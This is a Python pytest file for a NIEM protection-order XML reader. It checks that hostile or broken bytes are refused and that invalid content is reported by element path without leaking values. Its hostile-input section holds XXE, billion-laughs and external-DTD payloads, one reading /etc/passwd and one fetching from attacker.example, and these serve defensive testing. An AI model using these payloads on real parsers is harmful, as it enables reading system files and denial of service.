"""Reading NIEM messages from outside: hostile bytes are refused, bad content is explained."""

from __future__ import annotations

import copy
import datetime as dt
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from engine.errors import DecodeError, OrderInvalid
from engine.niem import read_niem
from engine.niem.namespaces import NS, q
from engine.safexml import MAX_XML_BYTES

GOLDEN = Path(__file__).parents[1] / "fixtures" / "niem"
DV_TRO = (GOLDEN / "dv_tro_issue.xml").read_bytes()


def mutated(change: Callable[[etree._Element], None], source: bytes = DV_TRO) -> bytes:
    root = etree.fromstring(source)
    change(root)
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def find(root: etree._Element, path: str) -> etree._Element:
    element = root.find(path, namespaces=NS)
    assert element is not None, path
    return element


def test_a_golden_message_reads_as_the_order_it_carries() -> None:
    """A valid message yields the canonical order, names in their original spelling."""
    order = read_niem(DV_TRO)
    assert order.order_id == "LA-DV-2024-000123"
    assert order.protected_persons[0].name.surname == "Nguyễn"
    assert order.restrained_persons[0].identifiers[0].expires_year == 2028


# -- hostile input -------------------------------------------------------------------------
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE m [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<pox:ProtectionOrderMessage xmlns:pox="urn:ca-courts:po-exchange:message:1.0">
<pox:MessageControlNumber>&xxe;</pox:MessageControlNumber></pox:ProtectionOrderMessage>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<pox:ProtectionOrderMessage xmlns:pox="urn:ca-courts:po-exchange:message:1.0">&lol3;
</pox:ProtectionOrderMessage>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE m SYSTEM "http://attacker.example/evil.dtd">
<pox:ProtectionOrderMessage xmlns:pox="urn:ca-courts:po-exchange:message:1.0"/>"""


def _deeply_nested() -> bytes:
    depth = 200
    return (b'<pox:ProtectionOrderMessage xmlns:pox="urn:ca-courts:po-exchange:message:1.0">'
            + b"<pox:x>" * depth + b"</pox:x>" * depth + b"</pox:ProtectionOrderMessage>")


def _oversized() -> bytes:
    padding = b"<!-- " + b"x" * (MAX_XML_BYTES + 1) + b" -->"
    return DV_TRO.replace(b"<pox:MessageControlNumber>",
                          padding + b"<pox:MessageControlNumber>", 1)


@pytest.mark.parametrize(("document", "words"), [
    (XXE, "DOCTYPE"),
    (BILLION_LAUGHS, "DOCTYPE"),
    (EXTERNAL_DTD, "DOCTYPE"),
    (_deeply_nested(), "deeper"),
    (_oversized(), "limit"),
    (b"this is not XML", "not well-formed"),
    (b"", "not well-formed"),
], ids=["xxe", "billion-laughs", "external-dtd", "deeply-nested", "oversized", "not-xml",
        "empty"])
def test_hostile_or_broken_bytes_are_refused_with_a_decode_error(document: bytes,
                                                                 words: str) -> None:
    """XXE, entity expansion, external DTDs, deep nesting, oversize and non-XML -> DecodeError."""
    with pytest.raises(DecodeError, match=words):
        read_niem(document)


def test_a_document_of_another_kind_is_a_decode_error() -> None:
    """Well-formed XML that is not a pox:ProtectionOrderMessage is refused, naming the root."""
    with pytest.raises(DecodeError, match="pox:ProtectionOrderMessage"):
        read_niem(b'<order xmlns="urn:example:other"><id>1</id></order>')


def test_our_element_names_in_no_namespace_are_a_decode_error() -> None:
    """The right local names in the wrong (empty) namespace are not our message."""
    with pytest.raises(DecodeError):
        read_niem(b"<ProtectionOrderMessage><MessageControlNumber>1</MessageControlNumber>"
                  b"</ProtectionOrderMessage>")


# -- bad content -----------------------------------------------------------------------------
def _paths(exc: pytest.ExceptionInfo[OrderInvalid]) -> list[str]:
    return [error.path for error in exc.value.errors]


def test_a_missing_required_element_is_reported_at_its_parent_path() -> None:
    """A message without j:CourtOrderIssuingDate breaks the schema; the path names the order."""
    def drop(root: etree._Element) -> None:
        element = find(root, "j:ProtectionOrder/j:CourtOrderIssuingDate")
        element.getparent().remove(element)

    with pytest.raises(OrderInvalid) as exc:
        read_niem(mutated(drop))
    assert any(path.endswith("/j:ProtectionOrder/j:CourtOrderIssuingJudicialOfficial")
               or path.endswith("/j:ProtectionOrder") for path in _paths(exc))
    assert "CourtOrderIssuingDate" in str(exc.value)


def test_a_value_the_schema_refuses_is_reported_without_the_value() -> None:
    """An impossible birth date is named by element path; the value itself is withheld."""
    def bad_date(root: etree._Element) -> None:
        association = find(root, "j:ProtectionOrderProtectedPersonAssociation")
        find(association, "nc:Person/nc:PersonBirthDate/nc:Date").text = "1987-13-45"

    with pytest.raises(OrderInvalid) as exc:
        read_niem(mutated(bad_date))
    assert any(p.endswith("nc:PersonBirthDate/nc:Date") for p in _paths(exc))
    assert "1987-13-45" not in str(exc.value)


def test_a_name_the_order_model_refuses_is_reported_at_its_element() -> None:
    """A surname with digits passes XML Schema but not the order model: element + field named."""
    def digits(root: etree._Element) -> None:
        find(root, "j:ProtectionOrder/j:ProtectionOrderRestrictedPerson/nc:PersonName/"
                   "nc:PersonSurName").text = "O'Br1en"

    with pytest.raises(OrderInvalid) as exc:
        read_niem(mutated(digits))
    (error,) = exc.value.errors
    assert error.path.endswith("j:ProtectionOrderRestrictedPerson/nc:PersonName/"
                               "nc:PersonSurName")
    assert "restrained_persons.0.name.surname" in error.reason
    assert "O'Br1en" not in str(exc.value)


def test_a_cross_field_rule_is_reported_at_the_element_that_breaks_it() -> None:
    """An expiration before the effective date points at pox-ext:ProtectionOrderExpirationDate."""
    def expire_early(root: etree._Element) -> None:
        find(root, "j:ProtectionOrder/pox-ext:ProtectionOrderAugmentation/"
                   "pox-ext:ProtectionOrderExpirationDate/nc:Date").text = "2026-11-01"

    with pytest.raises(OrderInvalid) as exc:
        read_niem(mutated(expire_early))
    (error,) = exc.value.errors
    assert error.path.endswith("pox-ext:ProtectionOrderExpirationDate")
    assert error.reason.startswith("expiration_date:")


def test_an_association_must_refer_to_the_protection_order() -> None:
    """A protected-person association whose nc:Activity points elsewhere is refused."""
    def dangling(root: etree._Element) -> None:
        activity = find(root, "j:ProtectionOrderProtectedPersonAssociation/nc:Activity")
        activity.set(q("structures", "ref"), "somewhere-else")

    with pytest.raises(OrderInvalid) as exc:
        read_niem(mutated(dangling))
    (error,) = exc.value.errors
    assert error.path.endswith("j:ProtectionOrderProtectedPersonAssociation[1]/nc:Activity")
    assert "structures:ref" in error.reason


def test_a_date_time_where_a_date_belongs_is_explained() -> None:
    """nc:DateTime in nc:ActivityEffectiveDate (valid NIEM) is refused: 'must be nc:Date'."""
    def datetime_instead(root: etree._Element) -> None:
        holder = find(root, "j:ProtectionOrder/nc:ActivityEffectiveDate")
        holder[0].tag = q("nc", "DateTime")
        holder[0].text = dt.datetime(2026, 11, 20, 9, 0, tzinfo=dt.UTC).isoformat()

    with pytest.raises(OrderInvalid, match="must be nc:Date"):
        read_niem(mutated(datetime_instead))


def test_an_unknown_identification_category_is_explained() -> None:
    """nc:ActivityIdentification must say which identifier it is (order id or case number)."""
    def unlabelled(root: etree._Element) -> None:
        find(root, "j:ProtectionOrder/nc:ActivityIdentification/"
                   "nc:IdentificationCategoryDescriptionText").text = "Something"

    with pytest.raises(OrderInvalid, match="CourtOrderIdentifier"):
        read_niem(mutated(unlabelled))


def test_xsi_nil_on_a_data_element_is_refused() -> None:
    """xsi:nil (valid NIEM on any element) is refused except on the nc:Activity reference."""
    def nil_surname(root: etree._Element) -> None:
        surname = find(root, "j:ProtectionOrder/j:ProtectionOrderRestrictedPerson/nc:PersonName/"
                             "nc:PersonSurName")
        surname.text = None
        surname.set(q("xsi", "nil"), "true")

    with pytest.raises(OrderInvalid) as exc:
        read_niem(mutated(nil_surname))
    (error,) = exc.value.errors
    assert error.path.endswith("nc:PersonSurName")


# -- fuzzing: any change to a valid message reads as an order or as a clear input error ----
_MUTATIONS = ("delete", "nil", "text", "duplicate", "empty")
_GOLDENS = sorted(GOLDEN.glob("*.xml"))


@settings(max_examples=300)
@given(st.sampled_from(_GOLDENS), st.lists(st.tuples(
    st.sampled_from(_MUTATIONS), st.integers(0, 10_000),
    st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=12)), min_size=1,
    max_size=3))
def test_a_mutated_message_reads_or_fails_with_an_input_error(golden: Path, changes) -> None:
    """Deleting, nilling, emptying, duplicating or retyping elements never crashes the reader."""
    root = etree.fromstring(golden.read_bytes())
    for mutation, index, text in changes:
        elements = list(root.iter())[1:]
        element = elements[index % len(elements)]
        parent = element.getparent()
        if mutation == "delete":
            parent.remove(element)
        elif mutation == "text":
            element.text = text
        elif mutation in ("empty", "nil"):
            element.text = None
            for child in list(element):
                element.remove(child)
            if mutation == "nil":
                element.set(q("xsi", "nil"), "true")
        else:
            parent.insert(parent.index(element), copy.deepcopy(element))
    document = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
    try:
        read_niem(document)
    except (DecodeError, OrderInvalid) as exc:
        assert str(exc)
